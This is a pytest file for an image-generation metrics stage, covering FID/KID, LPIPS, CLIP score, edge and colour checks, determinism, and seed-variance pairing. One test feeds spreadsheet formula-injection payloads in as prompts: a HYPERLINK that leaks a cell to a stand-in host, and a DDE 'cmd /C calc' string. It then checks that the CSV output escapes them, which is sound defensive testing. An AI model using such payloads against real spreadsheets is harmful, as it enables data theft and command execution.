"""metrics: our FID/KID agree with clean-fid's formulas; LPIPS and CLIP are per image and honest."""

import json
import re

import numpy as np
import pandas as pd
import pytest
import torch

from stages.common import backbones
from stages.common import dataset, similarity, statistics
from stages.common.errors import StageError
from stages.common.io import load_rgb, read_json, save_png, write_json
from stages.common.models import load_clip
from tests.conftest import fill_generated


def test_identical_images_score_perfectly(extracted):
    p = extracted
    fill_generated(p, lambda i: dataset.gt_path(p.path("eval_data"), i))
    p.run("metrics", metrics__prdc_k=2)  # k below n: PRDC exists
    n = p.params["extract"]["eval_products"]
    detail = read_json(p.path("metrics_detail"))
    result = detail["headline"]
    assert result["n"] == detail["n"] == n and detail["backbones"]["clip"] == "tiny-random-clip"
    for variant in dataset.VARIANTS:
        r = result[variant]
        assert set(r) == {f"{m}{s}" for m in ("fid", "kid", "cmmd", "lpips", "ssim", "psnr", "clip_score", "edge_f1",
                                              "edge_control") for s in ("", "_ci95_low", "_ci95_high")}
        assert r["fid"] == pytest.approx(0, abs=1e-3)
        assert r["fid_ci95_low"] is None, "FID at this n: no interval for one variant's FID"
        assert r["cmmd"] == pytest.approx(0, abs=1e-9)
        assert r["ssim"] == r["ssim_ci95_low"] == 1.0 and r["psnr"] == similarity.PSNR_MAX
        # copies of the ground truth follow their maps as well as it does
        assert r["edge_control"] == pytest.approx(detail["ground_truth"]["edge_control"]["mean"])
        assert r["edge_control"] > 0 and detail[variant]["prdc"]["precision"] == 1.0
        assert r["lpips"] == pytest.approx(0, abs=1e-6)
        assert r["clip_score"] == pytest.approx(detail["ground_truth"]["clip_score"], abs=1e-6)
        # the edge maps are canny of the ground truth, so its own canny edges match exactly
        assert r["edge_f1"] == r["edge_f1_ci95_low"] == 1.0
        assert detail[variant]["edge_precision"]["mean"] == detail[variant]["edge_recall"]["mean"] == 1.0
        # against the next sample's edge map the same images score well below their own
        assert detail[variant]["edge_f1_mismatched"]["mean"] < 0.9
        assert detail[variant]["kid"] == {"subset_size": n, "subsets": 1, "subset_std": None}
    delta = result["lora_minus_baseline"]
    for name in ("fid", "kid", "cmmd", "lpips", "ssim", "psnr", "clip_score", "edge_f1", "edge_control"):
        assert delta[name] == pytest.approx(0, abs=1e-12), "identical variants: every paired delta is zero"
    assert delta["fid_p_value"] == delta["kid_p_value"] == 1.0, "no difference: every permutation reaches it"
    assert delta["lpips_lora_better"] == delta["lpips_lora_worse"] == 0.0, "a tie is neither a win nor a loss"
    assert any("rank-deficient" in w for w in detail["warnings"]) and any("KID" in w for w in detail["warnings"])
    table = pd.read_csv(p.path("per_sample"))
    assert len(table) == n and {"clip_lora", "clip_ground_truth"}.isdisjoint(table.columns), "named for what they hold"
    assert {"clip_cosine_lora", "clip_score_lora", "edge_f1_baseline", "lpips_delta"} <= set(table.columns)
    assert (table["clip_score_lora"] == table["clip_cosine_lora"].clip(lower=0)).all()
    # the demo's prompts name palette colours: the garment-colour check, ground truth = both variants
    colours = detail["prompt_colour"]
    assert colours["ground_truth"]["colour_match"]["mean"] >= 0.75
    for variant in dataset.VARIANTS:
        assert colours[variant] == colours["ground_truth"]
    assert detail["lora_minus_baseline"]["colour_match"]["mean"] == 0.0
    assert (table["colour_share_lora"] == table["colour_share_ground_truth"]).all()


def test_metrics_json_is_a_terminal_view_of_the_headline(extracted):
    """metrics.json: n and, for baseline, LoRA and their delta, eight numbers each (seven off the
    demo), exactly the detail file's headline values, KID x 1000; no intervals, so `dvc exp show`
    and `dvc metrics diff` print what a person compares."""
    p = extracted
    fill_generated(p, lambda i: dataset.edge_path(p.path("edges"), i))
    p.run("metrics")
    terminal, detail = read_json(p.path("metrics")), read_json(p.path("metrics_detail"))
    assert list(terminal) == ["n", "baseline", "lora", "delta"] and terminal["n"] == detail["n"]
    for block, name in (("baseline", "baseline"), ("lora", "lora"), ("lora_minus_baseline", "delta")):
        numbers, headline = terminal[name], detail["headline"][block]
        assert list(numbers) == ["fid", "kid_x1e3", "cmmd", "lpips", "ssim", "clip_score", "edge_control",
                                 "colour_match"], "the demo's prompt colour is a headline number"
        assert numbers["kid_x1e3"] == pytest.approx(1000 * headline["kid"], rel=1e-12)
        assert 1e-3 < abs(numbers["kid_x1e3"]) < 1e3 or block == "lora_minus_baseline", "prints at 5 decimals"
        for key in ("fid", "cmmd", "lpips", "ssim", "clip_score", "edge_control"):
            assert numbers[key] == headline[key], key
    colour = detail["prompt_colour"]
    assert terminal["lora"]["colour_match"] == colour["lora"]["colour_match"]["mean"]
    assert terminal["delta"]["colour_match"] == detail["lora_minus_baseline"]["colour_match"]["mean"]


def test_the_same_inputs_give_the_same_bytes(extracted):
    p = extracted
    fill_generated(p, lambda i: dataset.edge_path(p.path("edges"), i))
    p.run("metrics")
    first = {k: p.path(k).read_bytes() for k in ("metrics", "metrics_detail", "per_sample")}
    p.run("metrics")
    assert {k: p.path(k).read_bytes() for k in first} == first
    # metrics.tf32: false, so a GPU's convolutions and matmuls would run in full fp32
    assert not torch.backends.cudnn.allow_tf32 and not torch.backends.cuda.matmul.allow_tf32


def test_different_images_score_worse(extracted):
    p = extracted
    fill_generated(p, lambda i: dataset.edge_path(p.path("edges"), i))
    p.run("metrics")
    result = read_json(p.path("metrics_detail"))["headline"]
    for variant in dataset.VARIANTS:
        r = result[variant]
        assert r["fid"] > 0.01 and r["lpips"] > 0.05
        for name in ("kid", "cmmd", "lpips", "ssim", "edge_f1"):
            assert r[f"{name}_ci95_low"] <= r[name] <= r[f"{name}_ci95_high"], name
    table = pd.read_csv(p.path("per_sample"))
    assert (table[["clip_score_baseline", "clip_score_lora"]] >= 0).all().all()  # max(cos, 0)
    # the raw cosine keeps its sign (the random tiny CLIP gives some negative ones) and the score clips it
    assert (table.filter(like="clip_cosine_") < 0).any().any()
    for variant in ("ground_truth", *dataset.VARIANTS):
        assert (table[f"clip_score_{variant}"] == table[f"clip_cosine_{variant}"].clip(lower=0)).all()
    assert table["colour_match_lora"].mean() < table["colour_match_ground_truth"].mean(), "edges are not garments"
    assert re.search(r"\d\.\d{9,}", p.path("per_sample").read_text()), "floats keep every digit, not 6 decimals"


def test_clip_score_is_the_cosine_of_clip_embeddings(extracted):
    p = extracted
    configs = dataset.load_eval_configs(p.path("eval_data"))
    files = [dataset.gt_path(p.path("eval_data"), c["index"]) for c in configs]
    prompts = [c["prompt"] for c in configs]
    model, processor = load_clip(p.path("eval_models"), torch.device("cpu"))
    ours, embeddings = backbones.clip_embeddings(model, processor, files, prompts, torch.device("cpu"), batch_size=3)
    from PIL import Image
    with torch.no_grad():
        inputs = processor(text=prompts, images=[Image.open(f) for f in files], return_tensors="pt", padding=True)
        out = model(**inputs)
    # logits_per_image = logit_scale * cosine; the diagonal pairs each image with its own prompt
    expected = (out.logits_per_image.diagonal() / model.logit_scale.exp()).detach().numpy()
    np.testing.assert_allclose(ours, expected, rtol=1e-4, atol=1e-5)
    unit = embeddings / np.linalg.norm(embeddings, axis=1, keepdims=True)  # CLIPModel returns them normalised
    np.testing.assert_allclose(unit, out.image_embeds.detach().numpy(), rtol=1e-4, atol=1e-5)  # CMMD's features


def test_clip_truncates_long_prompts_keeping_eos(extracted):
    p = extracted
    model, processor = load_clip(p.path("eval_models"), torch.device("cpu"))
    gt = dataset.gt_path(p.path("eval_data"), 0)
    head = "x" * 75  # the byte-level tiny tokenizer: one token per character; BOS + 75 + EOS = 77
    prompts = [head + "y" * 300, head + "z" * 300, head[:-1] + "w"]
    scores, _ = backbones.clip_embeddings(model, processor, [gt] * 3, prompts, torch.device("cpu"), batch_size=3)
    assert np.isfinite(scores).all()
    assert scores[0] == pytest.approx(scores[1], abs=1e-6)  # both cut to the same 77 tokens
    # had truncation dropped EOS, CLIP would pool the wrong position and all three would agree
    assert scores[2] != pytest.approx(scores[0], abs=1e-6)


def test_missing_generations_are_named(extracted):
    with pytest.raises(StageError, match=r"000000.png: not found .*run `dvc repro generate-baseline`"):
        extracted.run("metrics")


def strict_json(path) -> dict:
    """The file as JSON, refusing NaN and Infinity (json.loads would take them)."""
    def refuse(constant):
        raise AssertionError(f"{path}: {constant} in a metrics file")

    return json.loads(path.read_text(), parse_constant=refuse)


def test_odd_eval_configs_give_text_and_lines_never_a_formula_or_nan(extracted):
    """A dataset description is anyone's text: per_sample.csv must not hand a spreadsheet a
    formula. A sample without a category, and every other alone in its own, have no
    same-category chance level: edge control is null with a line saying why; PRDC with k >= n
    likewise; nothing in metrics.json is NaN."""
    import csv

    p = extracted
    configs = dataset.load_eval_configs(p.path("eval_data"))
    hostile = ['=HYPERLINK("http://example.invalid/?leak="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "'quoted"]
    for config, prompt in zip(configs, hostile):
        config["prompt"] = prompt
    configs[0].pop("category")
    for i, config in enumerate(configs[1:]):
        config["category"] = f"KIND {i}"
    write_json(p.path("eval_data") / dataset.EVAL_CONFIGS, configs)
    fill_generated(p, lambda i: dataset.edge_path(p.path("edges"), i))
    p.run("metrics")
    with p.path("per_sample").open(newline="", encoding="utf-8") as f:
        cells = [row["prompt"] for row in csv.DictReader(f)]
    assert cells[:3] == ["'" + text for text in hostile]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)

    terminal, detail = strict_json(p.path("metrics")), strict_json(p.path("metrics_detail"))
    result, n = detail["headline"], len(configs)
    for block in ("baseline", "lora", "lora_minus_baseline"):
        assert result[block]["edge_control"] is None and result[block]["edge_control_ci95_low"] is None
    assert terminal["delta"]["edge_control"] is None
    assert result["lora_minus_baseline"]["edge_control_lora_better"] is None
    assert detail["baseline"]["prdc"] is None and detail["ground_truth"]["edge_control"]["mean"] is None
    assert detail["per_category"]["(no category)"]["n"] == 1
    assert detail["per_category"]["KIND 0"]["lora"]["ssim"]["ci95_low"] is None, "one sample: no interval"
    warnings = "\n".join(detail["warnings"])
    assert f"1 of {n} eval samples have no category" in warnings
    assert "KIND 0, KIND 1" in warnings and "no same-category chance level" in warnings
    assert f"PRDC: n = {n} eval images, fewer than metrics.prdc_k + 1 = 6" in warnings


def test_several_images_per_condition_pair_by_condition(extracted):
    """generate.images_per_condition 2: a condition's score is the mean of its two images', each set
    number the mean of the two copies' sets, and their spread is reported as the seed's. Checked
    against two runs of one image per condition, one on each copy."""
    p = extracted
    configs = dataset.load_eval_configs(p.path("eval_data"))
    paths = p.typed().paths

    def flipped(i):  # a third kind of image: the ground truth mirrored
        return load_rgb(dataset.gt_path(p.path("eval_data"), i))[:, ::-1]

    sources = [{"baseline": lambda i: load_rgb(dataset.gt_path(p.path("eval_data"), i)),
                "lora": lambda i: load_rgb(dataset.edge_path(p.path("edges"), i))},
               {"baseline": lambda i: load_rgb(dataset.edge_path(p.path("edges"), i)), "lora": flipped}]

    def fill(copy, source):
        for variant in dataset.VARIANTS:
            for c in configs:
                target = dataset.generated_path(paths, variant, c["index"], copy)
                target.parent.mkdir(parents=True, exist_ok=True)
                save_png(target, source[variant](c["index"]))

    single = []
    for source in reversed(sources):  # each copy alone, as copy 0
        fill(0, source)
        p.run("metrics")
        single.insert(0, (read_json(p.path("metrics_detail"))["headline"], pd.read_csv(p.path("per_sample"))))
    fill(1, sources[1])  # copy 0 now holds sources[0]
    p.run("metrics", generate__images_per_condition=2)
    detail, table = read_json(p.path("metrics_detail")), pd.read_csv(p.path("per_sample"))
    result = detail["headline"]
    assert result["n"] == len(configs) == len(table), "n counts conditions, not images"
    for variant in dataset.VARIANTS:
        for name in ("lpips", "ssim", "clip_score", "edge_f1", "edge_control", "colour_share"):
            column = f"{name}_{variant}"
            pair = np.stack([s[1][column] for s in single])
            np.testing.assert_allclose(table[column], pair.mean(axis=0), rtol=1e-9, atol=1e-12)
            np.testing.assert_allclose(table[f"{column}_seed_sd"], pair.std(axis=0, ddof=1), rtol=1e-9, atol=1e-12)
        for name in ("fid", "kid", "cmmd"):
            sets = [s[0][variant][name] for s in single]
            assert result[variant][name] == pytest.approx(np.mean(sets), rel=1e-9)
            spread = detail["seed_variance"][variant][name]
            assert spread["per_seed_set"] == pytest.approx(sets, rel=1e-9)
            assert spread["seed_sd"] == pytest.approx(np.std(sets, ddof=1), rel=1e-9)
        # one-way random effects: seed variance = mean within-condition variance; condition variance =
        # var(condition means) - seed / k; the seed's share of one image's variance
        pair = np.stack([s[1][f"lpips_{variant}"] for s in single])
        seed = pair.var(axis=0, ddof=1).mean()
        condition = max(pair.mean(axis=0).var(ddof=1) - seed / 2, 0.0)
        lpips = detail["seed_variance"][variant]["lpips"]
        assert lpips["seed_sd"] == pytest.approx(seed ** 0.5, rel=1e-9) and lpips["seed_sd"] > 0
        assert lpips["condition_sd"] == pytest.approx(condition ** 0.5, rel=1e-9, abs=1e-12)
        assert lpips["seed_share"] == pytest.approx(seed / (seed + condition), rel=1e-9)
    delta = result["lora_minus_baseline"]
    assert delta["ssim"] == pytest.approx(np.mean([s[0]["lora_minus_baseline"]["ssim"] for s in single]), rel=1e-9)
    assert 0 < delta["fid_p_value"] <= 1 and 0 < delta["kid_p_value"] <= 1
    assert detail["settings"]["images_per_condition"] == 2
    # the ground truth is still one 0/1 image per condition: its colour match keeps the Wilson interval
    ground_truth = statistics.share_interval(table["colour_match_ground_truth"])
    assert detail["prompt_colour"]["ground_truth"]["colour_match"] == pytest.approx(ground_truth)
    assert not table.filter(like="ground_truth_seed_sd").columns.size, "the ground truth is one image per condition"
    assert not single[0][1].filter(like="seed_sd").columns.size, "one image per condition: no seed spread"
